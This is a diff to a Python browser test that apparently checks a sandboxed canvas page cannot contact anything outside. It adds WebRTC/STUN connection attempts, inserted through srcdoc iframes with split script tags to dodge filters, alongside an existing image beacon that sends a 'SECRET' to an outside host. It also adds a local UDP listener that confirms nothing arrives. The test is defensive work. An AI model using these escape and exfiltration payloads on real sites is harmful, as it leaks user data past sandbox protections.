@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import json
+import socket
 from collections.abc import AsyncIterator
 from typing import Any
 from uuid import uuid4
@@ -23,6 +24,8 @@ from tests.web.conftest import home_file
 pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
 
 ATTACK = """<!doctype html><title>x</title><p id="out">…</p><img src="OUTSIDE?q=SECRET">
+<iframe SrcDoc='<script>const call = new RTCPeerConnection({iceServers: [{urls: "stun:UDP"}]});
+  call.createDataChannel("x"); call.createOffer().then((offer) => call.setLocalDescription(offer));</script>'></iframe>
 <script>
 const tries = {
   parent: () => parent.document.title,
@@ -35,7 +38,19 @@ const tries = {
     socket.onopen = done; socket.onerror = failed;
   }),
   window: () => open("OUTSIDE").closed,
+  call: () => new RTCPeerConnection({iceServers: [{urls: "stun:UDP"}]}),
 };
+const call = `<scr` + `ipt>const call = new RTCPeerConnection({iceServers: [{urls: "stun:UDP"}]});
+  call.createDataChannel("x"); call.createOffer().then((offer) => call.setLocalDescription(offer));</scr` + `ipt>`;
+for (const how of ["property", "attribute", "html"]) {
+  const frame = document.createElement("iframe");
+  try {
+    if (how === "property") frame["src" + "doc"] = call;
+    else if (how === "attribute") frame.setAttribute("src" + "doc", call);
+    document.documentElement.append(frame);
+    if (how === "html") document.documentElement.insertAdjacentHTML("beforeend", `<iframe src${"doc"}='${call}'>`);
+  } catch {}
+}
 const reached = [];
 Promise.all(Object.entries(tries).map(async ([name, attempt]) => {
   try { await attempt(); reached.push(name); } catch {}
@@ -128,6 +143,10 @@ async def test_a_page_of_the_canvas_reaches_nothing_and_is_read_and_loaded_again
     page = await opened(signed_in)
     await expect(page.get_by_text("Nothing is shown.")).to_be_visible()
     html = ATTACK.replace("HUB", hub.url).replace("OUTSIDE", str(outside.make_url("/")))
+    calling = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    calling.bind(("127.0.0.1", 0))
+    calling.setblocking(False)
+    html = html.replace("UDP", f"127.0.0.1:{calling.getsockname()[1]}")
 
     told = await run(
         hub,
@@ -153,6 +172,8 @@ async def test_a_page_of_the_canvas_reaches_nothing_and_is_read_and_loaded_again
     assert "reached: nothing" in asked[1]
     assert "leaving" in left[0]
     assert outside.app[HEARD] == []
+    with calling, pytest.raises(BlockingIOError):
+        calling.recv(2_000)
     await asyncio.to_thread(home_file(hub, "workspace/canvas/index.html").write_text, "<p id=out>another</p>")
     await expect(out).to_have_text("another")
 
